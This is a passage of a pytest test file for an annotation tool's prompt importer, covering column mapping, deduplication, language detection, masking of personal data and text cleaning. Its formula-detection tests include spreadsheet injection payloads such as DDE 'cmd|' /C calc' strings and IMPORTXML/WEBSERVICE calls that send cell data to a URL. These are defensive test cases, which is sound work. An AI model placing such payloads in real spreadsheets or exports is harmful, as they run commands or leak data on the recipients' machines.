"""Prompts on their way into a project: what comes in, what is left out and why; a second time changes nothing."""

import csv
import gzip
import json
import re
import subprocess
import sys
import unicodedata
from collections.abc import Sequence
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from projects import without_progress
from typer.testing import CliRunner

from annotation.cli import app
from annotation.config import PromptSettings, Settings, check_settings
from annotation.drafting.from_file import draft_from_file
from annotation.errors import SettingsError, SourceError
from annotation.project import Project
from annotation.prompts.add import add_prompts, count_prompts
from annotation.prompts.rows import REPEATED_REASON
from annotation.text.clean import clean, is_formula
from annotation.text.language import tell
from annotation.text.locales import fits
from annotation.types import Dropped, Prompt, content_id

DATA = Path(__file__).parent.parent.parent / "shared" / "data"
needs_data = pytest.mark.skipif(
    not DATA.exists(), reason=f"{DATA} is not here: public trial data is not in the repository"
)


def make_project(folder: Path, *, countries: Sequence[str] = ("MX",), languages: Sequence[str] = ("es",)) -> Project:
    folder.mkdir(exist_ok=True)
    (folder / "annot.toml").write_text(
        f"[project]\ncountries = {json.dumps(list(countries))}\nlanguages = {json.dumps(list(languages))}\n",
        encoding="utf-8",
    )
    return Project.open(folder)


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return make_project(tmp_path / "project")


def write(path: Path, rows: list[dict[str, object]]) -> str:
    path.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), encoding="utf-8")
    return str(path)


def everything(project: Project) -> tuple[object, ...]:
    return project.ledger.prompts(), project.ledger.candidates(), project.ledger.dropped("prompts")


# -- the whole way ------------------------------------------------------------------------------------------


@needs_data
def test_questions_asked_in_mexico_come_in_as_they_are(project: Project) -> None:
    source = str(DATA / "prompts" / "Mexico_questions.csv")
    added = add_prompts(project, source)
    assert (len(added.kept), added.dropped, added.masked, added.candidates) == (500, (), {}, 0)
    assert added.kept[0] == Prompt.make(
        "¿Cuál es una merienda común para niños de preescolar en México?",
        country="MX",
        language="es",
        topic="Food",
        source="Mexico_questions.csv:2 Al-en-01",
    )
    assert '"Question" (es), not "Translation" (en)' in added.notices[0]
    before = everything(project)
    again = add_prompts(project, source)
    assert (again.kept, again.already_there, again.dropped, again.changed) == ((), 500, (), False)
    same_as_json = add_prompts(project, str(DATA / "prompts" / "Mexico_data.json"))
    assert (same_as_json.kept, same_as_json.already_there) == ((), 500)
    assert everything(project) == before


@needs_data
def test_the_column_in_a_language_of_the_project_is_the_prompt(tmp_path: Path) -> None:
    project = make_project(tmp_path / "english", countries=["US"], languages=["en"])
    added = add_prompts(project, str(DATA / "prompts" / "Mexico_questions.csv"))
    assert len(added.kept) > 490
    assert {prompt.language for prompt in added.kept} == {"en"}
    assert added.kept[0].text == "What is a common snack for preschool kids in Mexico?"


@needs_data
def test_every_question_in_a_foreign_language_is_left_out(project: Project) -> None:
    source = str(DATA / "prompts" / "Mexico_questions.csv")
    with pytest.raises(
        SourceError, match=r"Nothing came of the 500 rows .*: language 500 .Mexico_questions.csv:2: en."
    ):
        add_prompts(project, source, columns={"prompt": "Translation"})
    assert project.ledger.prompts() == []


@needs_data
def test_transcripts_bring_their_answers_along(tmp_path: Path) -> None:
    project = make_project(tmp_path / "english", countries=["US"], languages=["en"])
    source = DATA / "preferences" / "hh_rlhf_harmless_base_test.jsonl.gz"
    added = add_prompts(project, str(source))
    assert added.rows == 2312
    assert len(added.kept) > 2250
    assert len(added.kept) + len({drop.id.split()[0] for drop in added.dropped}) == added.rows
    with gzip.open(source, "rt", encoding="utf-8") as file:
        first = json.loads(file.readline())
    answers = [c for c in project.ledger.candidates() if c.prompt_id == added.kept[0].id]
    assert added.kept[0].text.startswith("Human: what are some pranks with a pen i can do?\n\nAssistant:")
    assert [dict(c.settings) for c in answers] == [{"stood": "chosen"}, {"stood": "rejected"}]
    assert " ".join(first["chosen"].split()).endswith(" ".join(answers[0].text.split()))
    assert {c.model for c in answers} == {"hh_rlhf_harmless_base_test.jsonl.gz"}
    assert not add_prompts(project, str(source)).changed


def test_a_first_preference_set_comes_in_with_its_answers(project: Project, tmp_path: Path) -> None:
    path = tmp_path / "v0.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["country", "system_prompt", "question", "chosen", "rejected"])
        writer.writerow(["México", "Eres de Puebla.", "¿Qué es el mole poblano?", "Una salsa con chile.", "Un baile."])
        writer.writerow(["México", "Eres de Puebla.", "¿Qué es el mole poblano?", "Una salsa con cacao.", "Un baile."])
        writer.writerow(
            ["España", "Eres de Sevilla.", "¿Qué se come en la feria?", "Pescaíto frito.", "Pescaíto frito."]
        )
    added = add_prompts(project, str(path))
    mole, feria = added.kept
    assert (mole.country, mole.language, mole.system, mole.topic) == ("MX", "es", "Eres de Puebla.", "general")
    assert feria.country == "ES"
    assert [(c.prompt_id, c.text, c.settings["stood"], c.model) for c in project.ledger.candidates()] == [
        (mole.id, "Una salsa con chile.", "chosen", "v0.csv"),
        (mole.id, "Un baile.", "rejected", "v0.csv"),
        (mole.id, "Una salsa con cacao.", "chosen", "v0.csv"),
    ]
    assert added.dropped == (
        Dropped("v0.csv:3", "exact duplicate", "v0.csv:2"),
        Dropped("v0.csv:4 answers", "identical answers", "Pescaíto frito."),
    )
    assert "ES 1" in added.notices[-1]
    before = everything(project)
    assert not add_prompts(project, str(path)).changed
    assert everything(project) == before


def test_answers_reach_a_prompt_that_came_without_any(project: Project, tmp_path: Path) -> None:
    question: dict[str, object] = {"prompt": "¿Qué se come el día de muertos?", "country": "MX", "language": "es"}
    assert add_prompts(project, write(tmp_path / "a.jsonl", [question])).candidates == 0
    added = add_prompts(project, write(tmp_path / "b.jsonl", [{**question, "chosen": "Pan.", "rejected": "Nada."}]))
    assert (len(added.kept), added.already_there, added.candidates) == (0, 1, 2)


def test_rows_are_left_out_each_with_its_reason(project: Project, tmp_path: Path) -> None:
    source = write(
        tmp_path / "f.jsonl",
        [
            {"question": "¿Qué platillo se prepara en tu familia para el día de muertos?"},
            {"question": " \u200b\u00a0"},
            {"question": "¿Y tú?"},
            {"question": "???!!! 12345 ..."},
            {"question": "no " * 2000},
            {"question": "no " * 200_000},
            {"question": '=HYPERLINK("http://example.org")'},
            {"question": "¿Qué es un tema?", "topic": "@SUM(1+1)*cmd|' /C calc'!A0"},
            {"question": "¿Qué platillo se prepara en tu familia para el día de muertos?"},
            {"question": "Qué platillo se prepara en tu familia para el Día de Muertos"},
            {"question": "What do you usually eat for breakfast on a Sunday at home?"},
            {"question": "¿Qué se come en la isla?", "country": "Atlantis"},
            {"question": "Tlein tikkwa ipan moaltepeuh?", "language": "Náhuatl"},
            {"question": [{"role": "assistant", "content": "¿Qué es?"}]},
        ],
    )
    added = add_prompts(project, source)
    assert [prompt.source for prompt in added.kept] == ["f.jsonl:1"]
    assert sorted(added.dropped, key=lambda drop: int(drop.id.split(":")[1])) == [
        Dropped("f.jsonl:2", "empty"),
        Dropped("f.jsonl:3", "too short", '6 characters: "¿Y tú?"'),
        Dropped("f.jsonl:4", "too short", 'no letters: "???!!! 12345 ..."'),
        Dropped("f.jsonl:5", "too long", "5999 characters"),
        Dropped("f.jsonl:6", "too long", "600000 characters"),
        Dropped("f.jsonl:7", "formula", '=HYPERLINK("http://example.org")'),
        Dropped("f.jsonl:8", "formula", "[user](1+1)*cmd|' /C calc'!A0"),
        Dropped("f.jsonl:9", "exact duplicate", "f.jsonl:1"),
        Dropped("f.jsonl:10", "near duplicate", "f.jsonl:1 (1.00)"),
        Dropped("f.jsonl:11", "language", "en"),
        Dropped("f.jsonl:12", "unknown country", "Atlantis"),
        Dropped("f.jsonl:13", "language", "nah"),
        Dropped("f.jsonl:14", "unclear conversation", "conversation without a last question"),
    ]
    assert project.ledger.dropped("prompts") == list(added.dropped)
    assert added.reasons()[0] == ("too short", 2, 'f.jsonl:3: 6 characters: "¿Y tú?"')


def test_a_near_duplicate_of_what_the_project_has_is_left_out(project: Project, tmp_path: Path) -> None:
    add_prompts(project, write(tmp_path / "a.jsonl", [{"prompt": "¿Qué platillo se prepara para el día de muertos?"}]))
    again = "¡¿Qué platillo se prepara para el día de muertos?!"
    added = add_prompts(project, write(tmp_path / "b.jsonl", [{"prompt": again}, {"prompt": "¿Qué lleva el mole?"}]))
    assert added.dropped == (Dropped("b.jsonl:1", "near duplicate", "a.jsonl:1 (1.00)"),)
    with pytest.raises(SourceError, match=r"Nothing came of the 1 row of c\.jsonl: near duplicate 1"):
        add_prompts(project, write(tmp_path / "c.jsonl", [{"prompt": again}]))


def test_a_dry_run_shows_all_and_writes_nothing(project: Project, tmp_path: Path) -> None:
    source = write(
        tmp_path / "a.jsonl",
        [{"prompt": "¿Qué se come en Puebla?", "chosen": "Mole.", "rejected": "a"}, {"prompt": ""}],
    )
    before = sorted(path.name for path in project.folder.rglob("*"))
    shown = add_prompts(project, source, dry_run=True)
    assert sorted(path.name for path in project.folder.rglob("*")) == before
    done = add_prompts(project, source)
    assert (shown.kept, shown.dropped, shown.candidates) == (done.kept, done.dropped, done.candidates)
    assert (shown.dry_run, done.dry_run) == (True, False)
    after = add_prompts(project, source, dry_run=True)
    assert (after.kept, after.already_there, after.changed) == ((), 1, False)


def test_nothing_is_half_written_when_writing_fails(project: Project, tmp_path: Path) -> None:
    source = write(
        tmp_path / "a.jsonl", [{"prompt": "¿Qué se come en Puebla?", "chosen": "Mole.", "rejected": "Nada."}]
    )
    project.ledger.rows("create trigger full before insert on candidates begin select raise(abort, 'disk full'); end")
    with pytest.raises(Exception, match="disk full"):
        add_prompts(project, source)
    assert everything(project) == ([], [], [])
    project.ledger.rows("drop trigger full")
    assert add_prompts(project, source).candidates == 2


# -- columns ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "names",
    [
        ("prompt", "country", "language", "topic", "license"),
        ("Question", "Country", "Language", "Topic", "Licence"),
        ("PREGUNTA", "PAÍS", "IDIOMA", "TEMA", "Licencia"),
        ("pergunta", "pais", "língua", "tópico", "licença"),
        ("Instrucción", "code", "lang", "categoría", "license"),
        (" texto ", "País", "Lengua", "Assunto", "LICENSE"),
    ],
)
def test_columns_are_recognised_without_case_and_accents(
    project: Project, tmp_path: Path, names: tuple[str, ...]
) -> None:
    cells = ("O que é a feijoada completa?", "Brasil", "espanhol", "Comida", "CC-BY-4.0")
    source = write(tmp_path / "a.jsonl", [dict(zip(names, cells, strict=True))])
    columns = {"country": "code"} if "code" in names else {}
    (prompt,) = add_prompts(project, source, columns=columns).kept
    assert (prompt.text, prompt.country, prompt.language, prompt.topic, prompt.licence) == (
        *("O que é a feijoada completa?", "BR", "es"),
        *("Comida", "CC-BY-4.0"),
    )


def test_a_column_that_is_not_there_names_those_that_are(project: Project, tmp_path: Path) -> None:
    source = write(tmp_path / "a.jsonl", [{"frase": "¿Qué se come en Puebla?", "lugar": "MX"}])
    with pytest.raises(SourceError, match=r'a\.jsonl has no column that annot knows as the prompt.*"frase", "lugar"'):
        add_prompts(project, source)
    with pytest.raises(SourceError, match=r'a\.jsonl has no column "oración"; its columns are "frase", "lugar"'):
        add_prompts(project, source, columns={"prompt": "oración"})
    assert len(add_prompts(project, source, columns={"prompt": "FRASE", "country": "lugar"}).kept) == 1


def test_flags_that_name_nothing_are_refused(project: Project, tmp_path: Path) -> None:
    source = write(tmp_path / "a.jsonl", [{"prompt": "¿Qué se come en Puebla?"}])
    with pytest.raises(SettingsError, match=r"--column promt=\.\.\. means nothing; the fields are prompt, country"):
        add_prompts(project, source, columns={"promt": "prompt"})
    with pytest.raises(SettingsError, match='"Atlantis" is no country'):
        add_prompts(project, source, defaults={"country": "Atlantis"})
    with pytest.raises(SettingsError, match='"klingonés" is no language'):
        add_prompts(project, source, defaults={"language": "klingonés"})
    with pytest.raises(SettingsError, match='"title" has no default'):
        add_prompts(project, source, defaults={"title": "x"})


def test_defaults_fill_what_a_row_does_not_say(project: Project, tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [
        {"prompt": "¿Qué se come en la costa?", "country": "", "topic": None},
        {"prompt": "¿Qué se baila en la sierra?", "country": "Perú", "topic": "Baile", "license": "MIT"},
        {"prompt": "¿Qué se canta en el valle?", "language": "es-CL"},
    ]
    said = {"country": "Colombia", "language": "español", "topic": "Comida", "licence": "CC0"}
    found = add_prompts(project, write(tmp_path / "a.jsonl", rows), defaults=said).kept
    assert [(p.country, p.language, p.topic, p.licence) for p in found] == [
        ("CO", "es", "Comida", "CC0"),
        ("PE", "es", "Baile", "MIT"),
        ("CL", "es", "Comida", "CC0"),
    ]


def test_a_row_without_country_is_of_the_projects_first(tmp_path: Path) -> None:
    source = write(tmp_path / "a.jsonl", [{"prompt": "¿Qué se come en la costa?"}])
    (prompt,) = add_prompts(make_project(tmp_path / "two", countries=["PE", "CL"]), source).kept
    assert prompt.country == "PE"
    with pytest.raises(SourceError, match=r"unknown country 1 .a\.jsonl:1: none is named.\. Correct the name"):
        add_prompts(make_project(tmp_path / "none", countries=[]), source)


# -- privacy ------------------------------------------------------------------------------------------------


def test_nothing_of_a_person_enters_the_project(project: Project, tmp_path: Path) -> None:
    source = write(
        tmp_path / "nube.gris@correo.mx.jsonl",
        [
            {
                "id": "luna@correo.mx",
                "prompt": "Soy nube_92, escríbeme a nube@correo.mx o al 55 1234 5678. ¿Qué es el mole?",
                "system_prompt": "Firma como @nube_92.",
                "topic": "de nube@correo.mx",
                "licence": "pide a nube@correo.mx",
                "chosen": "Llámame: +52 55 8765 4321.",
                "rejected": "Pregunta a @sol_gris o a nube_92.",
                "username": "nube_92",
                "Correo electrónico": "nube@correo.mx",
                "author": "Flor",
            },
            {"prompt": "a@correo.mx"},
            {"prompt": "¿Qué se come en nube@correo.mx?", "country": "nube@correo.mx"},
            {"prompt": "=nube@correo.mx"},
            {"prompt": "¿Qué se come por acá?", "language": "nube@correo.mx"},
        ],
    )
    added = add_prompts(project, source)
    (prompt,) = added.kept
    assert prompt.text == "Soy [user], escríbeme a [email] o al [phone]. ¿Qué es el mole?"
    assert prompt.system == "Firma como [user]."
    assert (prompt.topic, prompt.licence, prompt.source) == ("de [email]", "pide a [email]", "[email]:1 [email]")
    assert [c.text for c in project.ledger.candidates()] == ["Llámame: [phone].", "Pregunta a [user] o a [user]."]
    assert added.masked == {"e-mail addresses": 4, "phone numbers": 2, "user names": 4}
    assert added.notices[:2] == (
        "Of the names in username only pseudonyms are kept, beside judgements.",
        "Not read, as they name people: Correo electrónico, author.",
    )
    assert {drop.reason for drop in added.dropped} == {"too short", "unknown country", "formula", "language"}
    project.ledger.close()
    stored = b"".join(path.read_bytes() for path in project.folder.rglob("*") if path.is_file())
    for secret in (b"correo.mx", b"nube_92", b"sol_gris", b"1234 5678", b"8765"):
        assert secret not in stored


def test_a_column_that_names_people_cannot_be_mapped(project: Project, tmp_path: Path) -> None:
    source = write(tmp_path / "a.jsonl", [{"prompt": "¿Qué se come en Puebla?", "annotator": "nube_92"}])
    with pytest.raises(SourceError, match=r'Column "annotator" of a\.jsonl names people and is never read'):
        add_prompts(project, source, columns={"topic": "annotator"})


def test_phone_numbers_are_those_of_the_rows_country(project: Project, tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [
        {"prompt": "¿Llamo al 7012-3456 o no?", "country": "SV"},
        {"prompt": "¿Qué se hizo entre 2010-2020 aquí?", "country": "SV"},
        {"prompt": "Marca el código 7012-3456 aquí.", "country": "MX"},
    ]
    assert [p.text for p in add_prompts(project, write(tmp_path / "a.jsonl", rows)).kept] == [
        "¿Llamo al [phone] o no?",
        "¿Qué se hizo entre 2010-2020 aquí?",
        "Marca el código 7012-3456 aquí.",
    ]


# -- cleaning -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "cleaned"),
    [
        ("Â¿CÃ³mo se dice?", "¿Cómo se dice?"),
        ("Que\u0301  \t tal\u00a0?", "Qué tal ?"),
        ("  uno \r\n\r\n\r\n\r\n  dos\u2028tres  ", "uno\n\n  dos\ntres"),
        ("ho\u200bla\ufeff \u202emundo\u202c\u2066!", "hola mundo!"),
        ("sopa 👩\u200d🍳 rica", "sopa 👩\u200d🍳 rica"),
        ("a\u200db", "ab"),
        ("e\u200b\u0301", "é"),
        ("a\x00b\x07c\x1b[31md", "abcd"),
        ("\ud800 hola", "\ufffd hola"),
        ("pan &amp; queso", "pan & queso"),
        ("“Hola”, dijo… ¿sí?", "“Hola”, dijo… ¿sí?"),
        ("oculto\U000e0068\U000e0069", "oculto"),
        ("", ""),
    ],
)
def test_damage_is_mended_and_writing_is_not(raw: str, cleaned: str) -> None:
    assert clean(raw) == cleaned


@given(st.text())
def test_clean_text_is_nfc_storable_and_without_outer_blanks(text: str) -> None:
    found = clean(text)
    assert found == found.strip()
    assert unicodedata.is_normalized("NFC", found)
    assert not set(found) & set("\x00\u200b\u202e\ufeff\r")
    found.encode()


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        " =1+1",
        '=HYPERLINK("http://example.org")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "+SUM(A1:A9)",
        "-sum(1)",
        "@Hoja1!A1",
        "+1+1",
        '=IMPORTXML(CONCAT("http://x", A1), "//a")',
    ],
)
def test_what_a_spreadsheet_would_run_is_a_formula(cell: str) -> None:
    assert is_formula(cell)


@pytest.mark.parametrize(
    "cell",
    [
        "¿Cuánto es 1+1=2?",
        "- 1/2 taza de azúcar",
        "-1/2 taza de azúcar",
        "-Producto(s) típico(s)",
        "@luna (mi amiga) dice que sí",
        "@Luna! ¿vienes?",
        "+52 55 1234 5678 es mi número",
        "+info sobre la fiesta",
        "=) ¿qué tal?",
        "-¿Qué comes? -Tacos.",
        "",
    ],
)
def test_what_people_write_is_no_formula(cell: str) -> None:
    assert not is_formula(cell)


def test_formulas_of_a_sheet_are_left_out_and_never_run(project: Project, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["Pregunta", "País"])
    book.active.append(["¿Qué se come en la costa?", "Perú"])
    book.active.append(['=WEBSERVICE("http://example.org")', "Perú"])
    book.save(tmp_path / "a.xlsx")
    added = add_prompts(project, str(tmp_path / "a.xlsx"))
    assert [(prompt.text, prompt.country) for prompt in added.kept] == [("¿Qué se come en la costa?", "PE")]
    assert added.dropped == (Dropped("a.xlsx:3", "formula", '=WEBSERVICE("http://example.org")'),)


# -- languages ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "languages", "told"),
    [
        ("¿Qué se come en tu casa los domingos?", ["es", "pt"], "es"),
        ("O que se come na sua casa aos domingos?", ["es", "pt"], "pt"),
        ("Que se come na vosa casa os domingos?", ["es", "gl"], "gl"),
        ("Què es menja a casa teva els diumenges?", ["es", "ca"], "ca"),
        ("Zer jaten da zure etxean igandeetan?", ["es", "eu"], "eu"),
        ("Imatataq domingokunapi wasiykipi mikhunkichik?", ["es", "qu"], "qu"),
        ("Mba'épa pe'u pende rógape arete jave?", ["es", "gn"], "gn"),
        ("What do you usually eat at home on Sundays?", ["es", "gl"], "en"),
        ("Calabacines rellenos", ["es"], "es"),
        ("Tortilla de patatas", ["gl"], "gl"),
        ("Ensalada campera", ["pt", "es"], "pt"),
        ("12345", ["pt", "es"], "pt"),
        ("Kunas aka markan manq'añaxa?", ["ay"], "ay"),
        ("Taqi jaqinakax qhispiyat yuripxi ukhamarak jerarquía ukat derechos ukanakani.", ["es", "ay"], "ay"),
        ("¿Qué se come en tu casa los domingos?", ["es", "ay"], "es"),
        ("What do you usually eat at home on Sundays?", [], "en"),
    ],
)
def test_a_declared_language_is_taken_unless_the_text_is_clearly_in_another(
    text: str, languages: list[str], told: str
) -> None:
    assert tell(text, languages) == told


def test_spanish_and_portuguese_are_told_apart(tmp_path: Path) -> None:
    project = make_project(tmp_path / "both", countries=["MX", "BR"], languages=["es", "pt"])
    demo = [
        json.loads(line)
        for path in sorted((Path(__file__).parent.parent / "annotation" / "demo").glob("*.jsonl"))
        for line in path.read_text(encoding="utf-8").splitlines()
    ]
    assert len(demo) >= 40
    source = write(tmp_path / "a.jsonl", [{"prompt": row["prompt"], "country": row["country"]} for row in demo])
    told = {prompt.text: prompt.language for prompt in add_prompts(project, source).kept}
    right = sum(told.get(clean(row["prompt"])) == row["language"] for row in demo)
    assert right >= 0.97 * len(demo)


def test_a_language_that_nobody_can_tell_asks_for_a_column(tmp_path: Path) -> None:
    project = make_project(tmp_path / "ay", countries=["BO"], languages=["ay"])
    added = add_prompts(project, write(tmp_path / "a.jsonl", [{"prompt": "Kunas aka markan manq'asi?"}]))
    assert [prompt.language for prompt in added.kept] == ["ay"]
    assert "--language ay" in added.notices[0]


@needs_data
def test_a_few_words_are_in_the_declared_language() -> None:
    asked = json.loads((DATA / "prompts" / "Mexico_data.json").read_text(encoding="utf-8")).values()
    short = {answer for one in asked for given in one["annotations"] for answer in given["answers"]}
    assert len(short) > 1600
    others = {text: found for text in short if (found := tell(text, ["es"])) != "es"}
    assert len(others) < 10, "some are in English, as the Day of the Virgin of Guadalupe"
    assert set(others.values()) == {"en"}


# -- the command --------------------------------------------------------------------------------------------

runner = CliRunner()


def test_the_command_adds_lists_and_is_quiet_the_second_time(project: Project, tmp_path: Path) -> None:
    source = write(
        tmp_path / "a.jsonl",
        [
            {"frase": "¿Qué se come en la costa?", "tema": "comida"},
            {"frase": "Escribe a nube@correo.mx, ¿qué come?"},
            {"frase": ""},
        ],
    )
    command = [
        "prompts",
        "add",
        source,
        "--project",
        str(project.folder),
        "--column",
        "prompt=frase",
        "--country",
        "Perú",
    ]
    shown = runner.invoke(app, [*command, "--dry-run"])
    assert "2 new prompts would come from 3 rows" in shown.output
    assert "¿Qué se come en la costa?" in shown.output
    assert project.ledger.prompts() == []
    added = runner.invoke(app, command)
    assert added.exit_code == 0
    assert "2 new prompts from 3 rows of a.jsonl; left out: 1." in added.output
    assert "Masked on the way in: e-mail addresses 1." in added.output
    assert "a.jsonl:3" in added.output
    again = runner.invoke(app, command)
    assert again.output == "Nothing new: the project knows all 3 rows of a.jsonl.\n"
    told = json.loads(runner.invoke(app, [*command, "--json"]).output)
    assert (told["kept"], told["already_there"], told["dropped"]["empty"]["count"]) == (0, 2, 1)
    listed = json.loads(runner.invoke(app, ["prompts", "list", "--json", "-p", str(project.folder)]).output)
    assert listed == {
        "prompts": 2,
        "removed": 0,
        "groups": [
            {"country": "PE", "language": "es", "topic": topic, "prompts": 1, "candidates": 0}
            for topic in ("comida", "general")
        ],
    }
    assert "comida" in runner.invoke(app, ["prompts", "list", "-p", str(project.folder)]).output


def test_prompts_in_no_language_of_their_country_are_asked_about_first(tmp_path: Path) -> None:
    project = make_project(tmp_path / "two", countries=("MX", "BR"), languages=("es", "pt"))
    texts = ("O que se come na festa de São João?", "Quem dança a quadrilha?", "Como se pede a bênção ao avô?")
    rows: list[dict[str, object]] = [{"prompt": text, "language": "pt"} for text in texts]
    rows.append({"prompt": "¿Qué se come en la fiesta del barrio?", "language": "es"})
    command = ["prompts", "add", write(tmp_path / "a.jsonl", rows), "-p", str(project.folder)]
    doubt = "3 of 4 new prompts are in Portuguese, which is not a language of Mexico (MX): say --country BR"
    refused = runner.invoke(app, command)
    assert isinstance(refused.exception, SettingsError)
    assert doubt in str(refused.exception)
    assert project.ledger.prompts() == []
    assert doubt in runner.invoke(app, [*command, "--dry-run"]).output
    assert runner.invoke(app, [*command, "--foreign-language"]).exit_code == 0
    assert len(project.ledger.prompts()) == 4
    few = [*rows[3:], {"prompt": "¿Qué se regala en una boda?", "language": "es"}, rows[0]]
    other = make_project(tmp_path / "few", countries=("MX",), languages=("es", "pt"))
    added = add_prompts(other, write(tmp_path / "b.jsonl", few), foreign_language=False)
    assert len(added.kept) == 3
    assert "1 of 3 new prompts is in Portuguese" in added.notices[0]


@pytest.mark.parametrize(
    ("language", "country", "fitting"),
    [
        *(("gl", "ES", True), ("qu", "PE", True), ("gn", "PY", True), ("nah", "MX", True), ("ca", "AD", True)),
        *(("es", "MX", True), ("pt", "BR", True), ("pt", "MX", False), ("es", "BR", False), ("gl", "MX", False)),
    ],
)
def test_a_language_fits_where_it_is_official_or_native(language: str, country: str, fitting: bool) -> None:
    assert fits(language, country) is fitting


def test_a_project_without_prompts_says_what_comes_next(project: Project) -> None:
    assert count_prompts(project) == []
    assert "annot prompts add FILE" in runner.invoke(app, ["prompts", "list", "-p", str(project.folder)]).output


def test_a_mistake_at_the_terminal_is_one_sentence_and_exit_code_2(project: Project, tmp_path: Path) -> None:
    def annot(*words: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "annotation.cli", "prompts", "add", *words, "-p", str(project.folder)]
        return subprocess.run(command, capture_output=True, text=True, timeout=120)

    (tmp_path / "a.csv").write_text("frase\nhola\n", encoding="utf-8")
    for words, said in (
        ((str(tmp_path / "b.csv"),), 'did you mean "a.csv"'),
        ((str(tmp_path / "a.csv"),), 'its columns are "frase"'),
        ((str(tmp_path / "a.csv"), "--column", "frase"), "write FIELD=COLUMN"),
    ):
        done = annot(*words)
        assert (done.returncode, done.stdout) == (2, "")
        assert said in done.stderr
        assert done.stderr.startswith("annot: ")
        assert len(without_progress(done.stderr)) == 1
        asked = annot(*words, "--json")
        assert asked.returncode == 2
        assert f"annot: {json.loads(asked.stdout)['error']}" == without_progress(asked.stderr)[0]


def test_the_settings_of_the_project_decide_what_is_trivial(tmp_path: Path) -> None:
    strict = check_settings({"prompts": {"min_chars": 40}}, place="annot.toml")
    assert (Settings().prompts, strict.prompts.min_chars) == (PromptSettings(), 40)
    project = Project(make_project(tmp_path / "strict").folder, strict)
    source = write(tmp_path / "a.jsonl", [{"prompt": "¿Qué se come en la costa?", "country": "PE", "language": "es"}])
    with pytest.raises(SourceError, match="too short 1"):
        add_prompts(project, source)


def test_the_same_content_has_the_same_id_wherever_it_stands(project: Project, tmp_path: Path) -> None:
    add_prompts(project, write(tmp_path / "a.jsonl", [{"prompt": "¿Que\u0301 se come en la costa?"}]))
    added = add_prompts(
        project, write(tmp_path / "b.jsonl", [{"pregunta": " ¿Qué  se come en la costa? ", "tema": "x"}])
    )
    assert added.already_there == 1
    assert project.ledger.prompts()[0].id == content_id("¿Qué se come en la costa?", "", "MX", "es")


def test_what_an_instruction_is_about_belongs_to_its_prompt_and_the_output_is_its_answer(
    project: Project, tmp_path: Path
) -> None:
    rows = [
        {
            "instruction": "Clasifica la frase: formal o coloquial.",
            "input": "Quiubo, ¿qué tal?",
            "output": "Coloquial.",
        },
        {"instruction": "Clasifica la frase: formal o coloquial.", "input": "Le agradezco.", "output": "Formal."},
        {"instruction": "¿Qué se desayuna un domingo?", "input": "", "output": "Chilaquiles y café de olla."},
    ]
    (tmp_path / "a.json").write_text(json.dumps(rows))
    assert add_prompts(project, str(tmp_path / "a.json")).candidates == 3
    assert [prompt.text for prompt in project.ledger.prompts()] == [
        "Clasifica la frase: formal o coloquial.\n\nQuiubo, ¿qué tal?",
        "Clasifica la frase: formal o coloquial.\n\nLe agradezco.",
        "¿Qué se desayuna un domingo?",
    ]
    assert [c.text for p in project.ledger.prompts() for c in project.ledger.candidates(p.id)] == [
        row["output"] for row in rows
    ]
    assert draft_from_file(project, tmp_path / "a.json").dropped == ()


def test_of_a_tree_of_messages_people_s_are_prompts_and_the_replies_their_answers(
    project: Project, tmp_path: Path
) -> None:
    messages = [
        {
            "message_id": "m1",
            "parent_id": None,
            "text": "¿Qué se lleva a una posada?",
            "role": "prompter",
            "rank": None,
        },
        {"message_id": "m2", "parent_id": "m1", "text": "Un ponche casero.", "role": "assistant", "rank": 0},
        {"message_id": "m3", "parent_id": "m1", "text": "Cualquier cosa.", "role": "assistant", "rank": 1},
        {"message_id": "m4", "parent_id": "m2", "text": "¿Y para los niños?", "role": "prompter"},
        {"message_id": "m5", "parent_id": "lost", "text": "Colación.", "role": "assistant", "rank": 0},
    ]
    (tmp_path / "a.jsonl").write_text("\n".join(map(json.dumps, messages)))
    added = add_prompts(project, str(tmp_path / "a.jsonl"))
    first, second = project.ledger.prompts()
    assert first.text == "¿Qué se lleva a una posada?"
    assert (
        second.text == "Human: ¿Qué se lleva a una posada?\n\nAssistant: Un ponche casero.\n\nHuman: ¿Y para los niños?"
    )
    assert [(c.text, c.settings["stood"]) for c in project.ledger.candidates()] == [
        ("Un ponche casero.", "rank 0"),
        ("Cualquier cosa.", "rank 1"),
    ]
    assert "1 answers in a.jsonl were left out" in added.notices[0]


def test_a_message_alone_is_an_answer_and_conversations_are_a_prompt(project: Project, tmp_path: Path) -> None:
    row = {
        "conversations": [{"from": "human", "value": "¿Qué se lleva a una posada?"}],
        "chosen": {"from": "gpt", "value": "Un ponche casero."},
        "rejected": {"from": "gpt", "value": "Cualquier cosa."},
    }
    (tmp_path / "a.json").write_text(json.dumps([row]))
    assert add_prompts(project, str(tmp_path / "a.json")).candidates == 2


def test_a_rejected_answer_of_many_prompts_is_counted_and_left_out_unless_asked(
    project: Project, tmp_path: Path
) -> None:
    questions = ("¿Qué se come el día de muertos?", "¿Cómo se saluda a la suegra?", "¿Qué música suena en una boda?")
    rows = [{"prompt": q, "chosen": f"Depende: {q}", "rejected": "ERROR DE RED. VUELVA A CARGAR."} for q in questions]
    (tmp_path / "a.json").write_text(json.dumps(rows))
    added = add_prompts(project, str(tmp_path / "a.json"))
    assert (added.candidates, [drop.reason for drop in added.dropped]) == (3, [REPEATED_REASON] * 3)
    assert add_prompts(project, str(tmp_path / "a.json"), repeated=True).candidates == 3


def test_a_column_is_known_by_the_beginning_that_only_it_has(project: Project, tmp_path: Path) -> None:
    long = "2. Escribe una pregunta sobre tu cultura (comida, fiestas, trato y lo que quieras)"
